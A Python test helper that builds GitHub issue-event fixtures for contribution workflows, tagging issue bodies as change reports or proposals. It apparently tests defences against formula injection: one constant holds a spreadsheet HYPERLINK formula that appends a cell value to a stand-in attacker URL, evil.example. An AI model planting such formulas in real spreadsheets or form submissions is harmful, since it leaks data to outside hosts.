"""GitHub issue events as the contribution workflows receive them, with a body from
tests/fixtures/issues/."""

from __future__ import annotations

import copy
import json

from .project import FIXTURES

ISSUES = FIXTURES / "issues"
EVENT = json.loads((ISSUES / "event-labeled.json").read_text(encoding="utf-8"))
# The bodies made with the "Report a change" form; the others are proposals
CHANGE_REPORTS = ("good-change", "good-confirm", "good-closure", "bad-change-unknown-asset")
# The answer of inert-formula.md: a formula a spreadsheet would run
FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Riverbend")'


def issue_event(name: str, label: str = "approved") -> dict:
    """The event of the issue whose body is ``name``, just labelled ``label``."""
    event = copy.deepcopy(EVENT)
    event["issue"]["body"] = (ISSUES / name).read_text(encoding="utf-8")
    kind = "change-report" if name.removesuffix(".md") in CHANGE_REPORTS else "proposal"
    event["issue"]["labels"] = [{"name": kind}, {"name": "approved"}]
    event["label"] = {"name": label}
    return event
